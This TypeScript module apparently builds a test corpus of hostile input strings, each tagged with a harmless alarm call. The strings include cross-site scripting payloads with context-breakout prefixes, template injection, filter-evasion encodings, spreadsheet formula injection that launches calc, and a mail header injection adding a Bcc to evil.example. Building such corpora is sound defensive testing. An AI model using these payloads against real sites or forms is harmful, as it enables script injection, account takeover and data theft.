/** Function that a page calls when one of the texts has run; `{n}` is the number of the text. */
export const ALARM = 'menagerieAlarm'

const RUN = `${ALARM}({n})`
/** Markup that runs a script. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart="${RUN}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template><script>${RUN}</script>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus onfocus=${RUN}>x</button></form>`,
  `<object data="javascript:${RUN}"></object>`,
  `<base href="javascript:${RUN}//">`,
]
/** Endings for contexts that a text may break out of: an attribute, a comment, a text field, a title, a script with data, a table, an address. */
const OUT_OF = [
  '',
  '">',
  "'>",
  '-->',
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '</noscript>',
  ']]>',
  '</td></table>',
]
/** Texts that work without markup, and those for spreadsheets, mails and templates. */
const OTHERS = [
  `" autofocus onfocus="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `" onmouseover="${RUN}`,
  `javascript:${RUN}`,
  `</script><script>${RUN}//`,
  `\u2028${RUN}\u2029`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\u00adjava\u0001script:${RUN}`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `＜script＞${RUN}＜/script＞`,
  `=HYPERLINK("http://x.example/?${RUN}","y")`,
  "=cmd|' /C calc'!A{n}",
  '+1+cmd|x!A{n}',
  '-2+3+cmd|x!A{n}',
  '@SUM(1+{n})*cmd|x!A0',
  '\t=1+{n}',
  '%0A=1+{n}',
  'a\r\nBcc: x{n}@evil.example\r\n\r\n<b>',
  'a\nContent-Type: text/html\n\n{n}',
  '{brand}{name}{company}{n}',
  '%3Cscript%3E{n}',
]

/** Texts that attackers send to run code, each with its number. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP.flatMap((text) => OUT_OF.map((out) => out + text)),
  ...OTHERS,
].map((text, at) => text.replaceAll('{n}', String(at)))
